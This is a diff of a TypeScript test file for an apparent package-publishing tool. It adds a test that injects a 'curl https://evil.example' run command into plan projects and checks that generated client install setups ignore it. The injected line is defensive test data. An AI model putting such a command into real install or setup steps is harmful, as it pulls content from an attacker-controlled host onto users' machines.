@@ -9,7 +9,7 @@ import { loadSettings } from '../../../src/config/load.js';
 import { indexes } from '../../../src/config/target-choice.js';
 import { ReleaseError, StageFailure } from '../../../src/core/errors.js';
 import type { Project, PublishFile, Release } from '../../../src/core/types.js';
-import { userCommands } from '../../../src/plan/install-commands.js';
+import { installsOf, took } from '../../../src/plan/install-commands.js';
 import { adopt, type Holder } from '../../../src/publish/adopt.js';
 import { type Verified, verifyPlan } from '../../../src/publish/verify.js';
 import type { PublishInput } from '../../../src/targets/types.js';
@@ -99,11 +99,24 @@ test('a plan that is changed anywhere publishes the same, or nothing', async () 
   expect(same).toBeGreaterThan(0);
 });
 
+test('what was started over HTTP has no setup for clients, and a plan puts no word into the others', async () => {
+  const { plan, projects } = await verifyPlan(prepared.folder, EXPECTED, committed(prepared), host);
+  const setups = (started: object) => {
+    const changed = plan.projects.map((one) => ({
+      ...{ ...one, run: ['curl https://evil.example'] },
+      artifacts: one.artifacts.map((file) => ({ ...file, started: { ...file.started, ...started } as never })),
+    }));
+    return installsOf({ ...plan, projects: changed }, projects, () => true, indexes()).map(({ setup }) => setup);
+  };
+  expect(setups({})).toEqual([{ ...setups({})[0], command: 'uvx', args: ['weather-mcp@1.2.3'], env: [] }]);
+  expect(setups({ transport: 'http' })).toEqual([undefined]);
+});
+
 function commands({ plan, projects, publishFiles }: Verified): readonly string[] {
   const receipts = publishFiles.map(
     ({ file, project }) => ({ target: 'pypi', file, project, outcome: 'published' }) as const,
   );
-  return userCommands(plan, projects, receipts, indexes());
+  return installsOf(plan, projects, took(receipts), indexes()).flatMap(({ commands }) => commands);
 }
 
 test('an earlier plan that is found in a draft is held to the same', async () => {
